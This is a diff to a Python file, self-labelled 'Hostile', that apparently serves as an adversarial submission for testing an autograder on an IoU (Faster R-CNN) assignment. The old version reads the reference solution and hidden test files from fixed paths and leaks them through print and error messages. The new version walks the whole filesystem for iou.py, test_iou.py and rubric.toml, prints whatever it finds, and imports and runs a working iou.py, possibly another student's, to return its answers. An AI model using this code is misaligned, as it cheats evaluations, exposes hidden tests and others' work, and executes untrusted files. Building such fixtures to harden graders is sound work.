@@ -1,27 +1,47 @@
-"""Hostile: look for the reference and the hidden checks, print them and leak them in errors."""
+"""Hostile: search the whole filesystem for a complete iou.py (the reference, another
+student's, a TA's copy in /tmp or $HOME), run it and return its answers; print and leak
+whatever it finds."""
 
-import sys
+import importlib.util
+import os
 from pathlib import Path
 
 import torch
 
-_TARGETS = ("solutions/faster_rcnn/iou.py", "autograder/checks/test_iou.py", "source/solutions/faster_rcnn/iou.py")
+_OWN = Path(__file__).resolve()
+_SKIP = ("/proc", "/sys", "/dev")
 
 
-def _steal() -> str:
-    starts = [Path.cwd(), Path(__file__).resolve().parent, Path(sys.prefix).parent, Path("/autograder"), Path("/work/main")]
-    stolen = []
-    for start in starts:
-        for folder in [start, *start.parents]:
-            for target in _TARGETS:
-                try:
-                    stolen.append((folder / target).read_text())
-                except OSError:
-                    continue
-    return "\n".join(stolen)
+def _candidates() -> list[Path]:
+    found = []
+    for root, dirs, files in os.walk("/", onerror=lambda exc: None):
+        dirs[:] = [d for d in dirs if os.path.join(root, d) not in _SKIP]
+        for name in ("iou.py", "test_iou.py", "rubric.toml"):
+            if name in files and Path(root, name).resolve() != _OWN:
+                found.append(Path(root, name))
+    return found
+
+
+def _working_iou():
+    for path in _candidates():
+        try:
+            text = path.read_text()
+        except (OSError, UnicodeDecodeError):
+            continue
+        print(f"found {path}:\n{text}")
+        if path.name == "iou.py" and "def iou(" in text and "NotImplementedError" not in text:
+            spec = importlib.util.spec_from_file_location("stolen_iou", path)
+            module = importlib.util.module_from_spec(spec)
+            try:
+                spec.loader.exec_module(module)
+                return module.iou
+            except Exception:
+                continue
+    return None
 
 
 def iou(boxes1: torch.Tensor, boxes2: torch.Tensor) -> torch.Tensor:
-    text = _steal()
-    print(text)
-    raise RuntimeError(text or "nothing readable")
+    stolen = _working_iou()
+    if stolen is None:
+        raise RuntimeError("nothing readable")
+    return stolen(boxes1, boxes2)
